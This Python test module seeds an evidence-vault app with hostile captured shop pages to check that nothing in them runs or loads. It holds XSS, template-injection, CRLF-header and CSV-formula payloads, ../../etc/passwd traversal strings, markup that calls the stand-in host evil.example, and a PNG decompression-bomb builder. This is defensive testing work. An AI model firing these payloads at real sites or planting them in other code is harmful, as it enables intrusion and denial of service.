"""A vault in which everything that came from outside wants to run, to leave or to break the page.

Nothing of it may do so. What runs says so by `BANG`; what leaves asks `evil.example`.
"""

from __future__ import annotations

import asyncio
import io
import itertools
import struct
import uuid
import zlib
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

from PIL import Image
from sqlalchemy import update

from helper.dealings import Answer, Answers, Contact, Party, Refund, Shown, Walk
from helper.model import (
    CaptureMeta,
    Corroboration,
    FieldComparison,
    Filing,
    Missing,
    PictureComparison,
    StampKind,
    TextChange,
    TextComparison,
)
from helper.steps import sheets
from helper.steps.keep import keep_parts
from helper.vault import schema
from helper.vault.store import writing
from helper.web.services import Services
from scrapers.record import (
    Chat,
    Clause,
    Delivery,
    Item,
    Message,
    Operator,
    OrderRecord,
    Payment,
    PlatformRef,
    Pledge,
    Product,
    Secret,
    Seller,
    Source,
    Terms,
)
from tests.bench.material import Bench, Page, Size, _mhtml, _part, _png, draw, keep_visit, take_in

BANG = "kazhengBang"
_RUN = f"window.{BANG}=top.{BANG}=1"
_OUT = "http://evil.example/"
WORDS = (
    f"\"'></title></textarea></script><script>{_RUN};alert(1)</script>",
    f"<svg/onload={_RUN}><img src=x onerror={_RUN}><img src={_OUT}i.png>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe><iframe src=javascript:{_RUN}>",
    "{{7*7}} ${7*7} #{7*7} {% include 'layout.html' %} {%raw%} <%= 7*7 %> {{''.__class__}}",
    f"a\r\nSet-Cookie: hostile=1\r\nLocation: {_OUT}\r\n\r\n<script>{_RUN}</script>",
    "\u202egnp.exe\u202c \u2067עברית\u2069 \u200f\u200b\ufeff طلب رقم",
    f"javascript:{_RUN}",
    f"--><style>*{{display:none;background:url({_OUT}s)}}@import '{_OUT}c.css';</style><!--",
    f'" onfocus={_RUN} autofocus hx-get="{_OUT}" hx-trigger="load" x="',
    f'<meta http-equiv=refresh content="0;{_OUT}"><base href={_OUT}><form action={_OUT}>',
    "NUL\x00\x01\x1b[31m\x7f\ufffe\uffff",
    "M" * 2000,
    "很长的标题" * 400,
    "= cmd|' /C calc'!A0 %00 %0d%0a ..\\..\\ ../../etc/passwd \u2028 \u2029 &lt;script&gt;",
    "Z̸̢̛" + "̴̡" * 300 + "👩‍👩‍👧‍👦" * 40,
)
"""None of them may do anything but stand there as text."""


def pages() -> dict[str, bytes]:
    """Return kept pages, as MHTML, that would do something if they could."""
    run = f"<script>{_RUN}</script>"
    return {
        "script": f"{run}<body onload={_RUN} onpageshow={_RUN}><p>{WORDS[3]}".encode(),
        "frames": (
            f"<iframe src='data:text/html,{run}'></iframe><iframe srcdoc=\"{run}\"></iframe>"
            f"<frameset><frame src='{_OUT}'></frameset><object data='{_OUT}'></object>"
            f"<embed src='{_OUT}'><portal src='{_OUT}'></portal>"
        ).encode(),
        "svg": (
            f"<svg onload={_RUN} xmlns='http://www.w3.org/2000/svg'>{run}"
            f"<a href='javascript:{_RUN}'><text y=20>svg</text></a>"
            f"<image href='{_OUT}i'/><use href='{_OUT}u#x'/>"
            f"<animate attributeName=href to=javascript:{_RUN} /><foreignObject>{run}"
            f"</foreignObject></svg><math><mtext><mglyph><style><!--</style>"
            f"<img src=x onerror={_RUN}>"
        ).encode(),
        "css": (
            f"<style>@import '{_OUT}a.css';@import url({_OUT}b.css);body{{background:url({_OUT}c);"
            f"width:expression({_RUN});behavior:url({_OUT}d);-moz-binding:url({_OUT}e)}}"
            f"@font-face{{font-family:x;src:url({_OUT}f)}}p{{font-family:x;cursor:url({_OUT}g),auto;"
            f"content:image-set('{_OUT}h' 1x);list-style:\\75rl({_OUT}j)}}</style>"
            f"<p style='background:u\\rl({_OUT}k)'>css</p><link rel=stylesheet href={_OUT}l>"
            f"<link rel=prefetch href={_OUT}m><link rel=preconnect href={_OUT}>"
            f"<link rel=dns-prefetch href={_OUT}>"
        ).encode(),
        "leave": (
            f"<meta http-equiv=refresh content='0;url={_OUT}'><base href='{_OUT}' target=_top>"
            f"<form action='{_OUT}' method=post><input name=a autofocus onfocus={_RUN}>"
            f"<button formaction='{_OUT}'>go</button></form><a href='{_OUT}' ping='{_OUT}'>a</a>"
            f"<img src='{_OUT}1' srcset='{_OUT}2 2x'>"
            f"<video poster='{_OUT}3' src='{_OUT}4' autoplay>"
            f"<picture><source srcset='{_OUT}5'><img></picture><audio src='{_OUT}6' autoplay>"
            f"<script type=speculationrules>{{'prefetch':[{{'urls':['{_OUT}']}}]}}</script>"
        ).encode(),
        "deep": b"<div>" * 5000 + b"deep",
        "odd": b"\xff\xfe\x00<\x00s\xed\xa0\x80\x00<script>\x00" + run.encode() + b"<!--",
    }


def pictures() -> dict[str, tuple[str, bytes]]:
    """Return kept pictures: broken, huge, of another kind than they say, or more than a picture."""
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'><script>{_RUN}</script></svg>"
    small = _png(Image.new("RGB", (8, 8), "red"))
    gif = io.BytesIO()
    Image.new("P", (4, 4)).save(gif, "GIF")
    wide = _png(Image.new("1", (20000, 20), 1))
    return {
        "svg": ("image/svg+xml", svg.encode()),
        "svg as png": ("image/png", svg.encode()),
        "broken": ("image/png", small[:40]),
        "cut": ("image/png", _png(Image.effect_noise((60, 60), 50))[:-600]),
        "empty of sense": ("image/png", b"<html><script>alert(1)</script>"),
        "script behind": ("image/gif", gif.getvalue() + f"*/=1;{_RUN}//</script>".encode()),
        "huge": ("image/png", _bomb()),
        "wide": ("image/png", wide),
    }


def _bomb() -> bytes:
    """Return a small PNG that says it has 60,000 × 60,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", 60000, 60000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


class Hostile:
    """Builds the cases; words come round in turn, so that each field has another one each time."""

    def __init__(self, bench: Bench, services: Services, folder: Path) -> None:
        self.bench, self.services, self.folder = bench, services, folder
        self.now = bench.store.now()
        self.words = itertools.cycle(WORDS)

    def word(self, longest: int = 2000) -> str:
        """Return the next words, cut to what the field takes."""
        return next(self.words)[:longest]

    async def case(self, number: int, *, ordered: bool = True) -> str:
        """Make a case of one hostile page, with all that can be told of it and a draft.

        Without an order nothing of it can be corrected, and nothing is drafted.
        """
        self.words = itertools.cycle([*WORDS[number:], *WORDS[:number]])
        page = await asyncio.to_thread(self._page, number)
        order = self._order() if ordered else None
        case_id = await self._kept(page, order)
        await asyncio.to_thread(self._tell, case_id, page.capture_id)
        if order is not None:
            await asyncio.to_thread(self._correct, case_id)
            await self._draft(case_id)
        return case_id

    async def _kept(self, page: Page, order: OrderRecord | None) -> str:
        bench, vault, id_ = self.bench, self.bench.store.vault, page.capture_id
        await take_in(bench, page)
        await asyncio.to_thread(keep_parts, bench.store, id_)
        await asyncio.to_thread(sheets.draw_viewport_sheet, bench.store, id_)
        await asyncio.to_thread(bench.sealer.seal, id_, "S0")
        if order is not None:
            vault.put_order(id_, order)
        vault.put_shown(id_, self._shown())
        case_id = vault.join_case(
            id_, platform_key="wangzi", host=self.word(),
            order_no=f"{id_[:4]}{self.word()}" if order else None, wanted=None,
            title=self.word(), now=self.now,
        )  # fmt: skip
        await asyncio.to_thread(keep_visit, bench, page)
        vault.put_corroboration(id_, self._compared())
        vault.add_missing(id_, [Missing(role=self.word(), reason="failed", detail=self.word())])
        vault.add_missing(id_, [Missing(role="witness/pdf", reason=self.word())])
        vault.add_notes(id_, [f"odd: {self.word()}", self.word()])
        vault.add_step(id_, "read", self.now, self.word())
        await asyncio.to_thread(bench.sealer.seal, id_, "S1")
        vault.set_state(id_, "sealed")
        self._stamps(id_)
        return case_id

    def _page(self, number: int) -> Page:
        page = draw(number, Size(strips=1, photographs=0), self.folder)
        id_ = str(uuid.uuid5(uuid.NAMESPACE_URL, f"hostile/{number}"))
        kept = list(pages().values())
        parts = [one for one in page.parts if one[0].role != "seen/mhtml"]
        parts.append(_part("seen/mhtml", "multipart/related", _mhtml(kept[number % len(kept)], [])))
        for name, (kind, data) in pictures().items():
            part, content = _part("attachment", kind, data + b" " * number * (kind != "image/png"))
            about = {"name": f"{name}{self.word(200)}", "note": self.word()}
            parts.append((part.model_copy(update={"about": about}), content))
        meta = CaptureMeta(
            url=f"https://shop.example/{self.word()}", title=self.word(), clicked_at=self.now,
            timezone=self.word(), language=self.word(), user_agent=self.word(),
            extension_version=self.word(), viewport=page.meta.viewport, receipt_for=self.word(),
            missing=(Missing(role=self.word(), reason=self.word(), detail=self.word()),),
            walk=Walk(session=id_, step=number + 1, from_url=self.word()),
            extra={"extension_sha256": self.word(), "odd": self.word()},
        )  # fmt: skip
        seen = tuple(parts)
        return replace(page, capture_id=id_, meta=meta, parts=seen)

    def _order(self) -> OrderRecord:
        word, at = self.word, self.now - timedelta(hours=3)
        paths = ("order_no", "status", "items.0.title", "amount", "payment.trade_no", "seller.name")
        return OrderRecord(
            platform=PlatformRef(key="wangzi", name=word(), host=word(), software=word()),
            url=word(), order_no=word(), status="failed", status_text=word(),
            items=(Item(title=word(), sku=word(), quantity=1, unit_price="29.00"),),
            amount="29.00", discount="1.00", currency=word(),
            payment=Payment(method="wechat", method_text=word(), trade_no=word(), paid_at=at),
            created_at=at, recharge_account=word(),
            delivery=Delivery(kind="card_secret", promised="PT10M", promised_text=word(),
                              secrets=(Secret(masked=word(), sha256="0" * 64),), message=word()),
            failure_reason=word(), seller=Seller(name=word(), contact=word()),
            buyer_contact=word(),
            sources={path: Source(artifact="seen/html", selector=word(), text=word())
                     for path in paths},
        )  # fmt: skip

    def _shown(self) -> Shown:
        word, at = self.word, self.now - timedelta(hours=1)
        said = Message(
            at=at, at_text=word(), speaker=word(), side="agent", agent_no=word(), text=word(),
            quoted=word(), promise=Pledge(what="refund", within="PT24H", text=word()),
        )  # fmt: skip
        clause = Clause(number=word(), text=word(), topics=("refund",))
        return Shown(
            page_kind=word(),
            product=Product(title=word(), price="29.00", currency=word(), description=word()),
            chat=Chat(title=word(), agent=word(), messages=(said,)),
            terms=Terms(name=word(), version=word(), clauses=(clause,)),
            operator=Operator(name=word(), code=word(), icp=word(), licence=word(),
                              address=word(), phone=word(), email=word(), personal_payee=True),
        )  # fmt: skip

    def _compared(self) -> Corroboration:
        word = self.word
        change = TextChange(state="changed", seen=word(), witness=word(), seen_line=1)
        fields = tuple(
            FieldComparison(field=path, seen=word(), witness=word(), state="differs")
            for path in ("order_no", "amount", word(100))
        )
        return Corroboration(
            verdict="differs", seen_at=self.now, witness_at=self.now, fields=fields,
            text=TextComparison(state="differs", changed=1, changes=(change,)),
            picture=PictureComparison(state="differs", share=0.5),
            said={"zh_CN": word(), "en": word()},
        )  # fmt: skip

    def _stamps(self, id_: str) -> None:
        vault = self.bench.store.vault
        wanted: list[tuple[str, StampKind]] = [("one", "rfc3161"), ("two", "opentimestamps")]
        vault.queue_stamps(vault.capture(id_).seals[-1], wanted, self.now)
        with writing(vault.engine) as connection:
            for name in ("one", "two"):
                connection.execute(
                    update(schema.stamps).where(schema.stamps.c.authority == name)
                    .values(authority=self.word() + id_[:8], state="failed", reason=self.word())
                )  # fmt: skip

    def _tell(self, case_id: str, capture_id: str) -> None:
        vault, word, at = self.bench.store.vault, self.word, self.now - timedelta(hours=2)
        told: list[Any] = [
            Contact(at=at, way="chat", who=word(200), agent_no=word(200), said=word(),
                    promised=word(), promised_by=self.now + timedelta(days=1)),
            Answer(at=at, channel="merchant_platform", outcome="refused", number=word(200),
                   said=word(), offered="1.00"),
            Refund(at=at, amount="1.00", currency=word(10)),
            Party(name=f"公司{word(190)}", code=word(200), address=word(200), phone=word(200),
                  registry=word(200)),
            Answers(issue="dead_code", answers={"facts": word(), "resale": word()}),
        ]  # fmt: skip
        for what in told:
            vault.add_entry(case_id, what, self.now)
        vault.add_note(case_id, word(), self.now)
        vault.add_filing(
            case_id,
            Filing(draft_id="", channel="merchant_platform", number=word(200),
                   capture_id=capture_id, at=at),
        )  # fmt: skip

    def _correct(self, case_id: str) -> None:
        for path in ("items.0.title", "recharge_account", "seller.name"):
            self.bench.store.vault.add_correction(case_id, path, self.word(500), self.now)

    async def _draft(self, case_id: str) -> None:
        make: Callable[..., Any] = self.services.make_draft
        draft = await make(
            case_id, channel="merchant_platform", document=None, issue="dead_code", demand=None,
            answers={"facts": self.word()}, language="zh_CN",
        )  # fmt: skip
        key = next(one.key for one in draft.sentences if one.key)
        await self.services.edit_draft(draft.draft_id, key, self.word(), "zh_CN")
